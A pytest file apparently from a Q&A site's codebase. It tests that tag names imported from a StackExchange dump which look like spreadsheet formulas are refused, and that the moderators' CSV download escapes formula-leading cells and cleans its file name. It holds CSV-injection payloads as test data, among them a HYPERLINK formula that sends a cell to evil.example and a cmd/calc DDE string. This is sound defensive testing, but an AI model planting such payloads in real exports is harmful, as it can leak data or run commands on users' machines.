"""Spreadsheet formulas through the care CSV: an imported dump's tag names follow the tag-name rule a moderator's
typed name follows, every text cell of the download is kept from running as a formula, and the download's file
name survives any tag name a database may still hold."""

import csv
import io
from datetime import timedelta

from sqlalchemy import select
from werkzeug.http import parse_options_header

from app import clock
from app.extensions import db
from app.models import Question, Tag
from app.questions import operations as posts

HOSTILE_TAGS = ['=HYPERLINK("http://evil.example/?"&A1,"Open")', "@sum(1+1)", "+cmd|' /C calc'!A0", "-2+3",
                'desk"quote', "tab\tname"]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _dump(folder, tags: list[str]) -> None:
    def attribute(text: str) -> str:
        return (text.replace("&", "&amp;").replace('"', "&quot;").replace("<", "&lt;").replace(">", "&gt;")
                .replace("\t", "&#9;"))

    tag_rows = "".join(f'<row Id="{n}" TagName="{attribute(name)}" Count="1" />' for n, name in enumerate(tags, 1))
    tagged = attribute("".join(f"<{name}>" for name in [*tags[:4], "hops"]))
    files = {
        "Users.xml": '<users><row Id="5" DisplayName="Brewer" CreationDate="2014-01-02T00:00:00" /></users>',
        "Tags.xml": f"<tags>{tag_rows}</tags>",
        "Posts.xml": f'<posts><row Id="10" PostTypeId="1" Title="Which hops for a pale ale?" OwnerUserId="5" '
                     f'Body="&lt;p&gt;Cascade or Citra, and why?&lt;/p&gt;" CreationDate="2014-01-03T00:00:00" '
                     f'Tags="{tagged}" /></posts>'}
    for name, text in files.items():
        (folder / name).write_text(f'<?xml version="1.0" encoding="utf-8"?>\n{text}', encoding="utf-8")


def test_imported_tag_names_follow_the_tag_name_rule(app, tmp_path):
    _dump(tmp_path, HOSTILE_TAGS)
    result = app.test_cli_runner().invoke(args=["import", "stackexchange", str(tmp_path), "--site",
                                                "brew.stackexchange.com"])
    assert result.exit_code == 0, result.output
    assert f"{len(HOSTILE_TAGS)} with a name the tag-name rule refuses" in result.output
    assert "Tolerated: 5 tags left off questions: with a name the tag-name rule refuses" in result.output
    assert sorted(db.session.scalars(select(Tag.name))) == ["hops"]
    question = db.session.scalar(select(Question))
    assert [tag.name for tag in question.tags] == ["hops"]


def test_every_text_cell_of_the_csv_is_kept_from_running(app, client, auth, make_user):
    """Tags written by an earlier import (before the rule held) still come out as text, and the tag's name makes
    a file name a browser can read."""
    tags = [Tag(name=name) for name in ['=hyperlink("http://evil.example")', "@sum(1+1)", 'desk"quote']]
    db.session.add_all([*tags, Tag(name="pump")])
    db.session.commit()
    author = make_user("olivia")
    asked = clock.now() - timedelta(days=2)
    with clock.frozen(asked):
        for tag in tags:
            # The tag field no longer accepts such names, so each question is asked with a valid one and then
            # carries the old tag, as a question imported before the rule would.
            question = posts.ask_question(author, "-1 star: the pump hums and then stops", "The pump hums and "
                                          "then nothing comes out of the group head at all.", "pump", "en")
            question.tags = [tag]
    db.session.commit()
    make_user("marta", role="moderator")
    auth.login("marta")
    for tag in tags:
        response = client.get("/moderation/metrics.csv", query_string={"period": "30", "tag": tag.name})
        assert response.status_code == 200
        rows = list(csv.reader(io.StringIO(response.get_data(as_text=True))))
        assert len(rows) == 2
        for cell in rows[1]:
            assert not cell.startswith(FORMULA_STARTS), rows[1]
        assert rows[1][4] == ("'" + tag.name if tag.name.startswith(FORMULA_STARTS) else tag.name)
        assert rows[1][1] == "'-1 star: the pump hums and then stops"
        disposition, options = parse_options_header(response.headers["Content-Disposition"])
        assert disposition == "attachment"
        assert options["filename"].startswith("care-") and options["filename"].endswith(".csv")
        assert not set(options["filename"]) & set('"\\/;=@+')

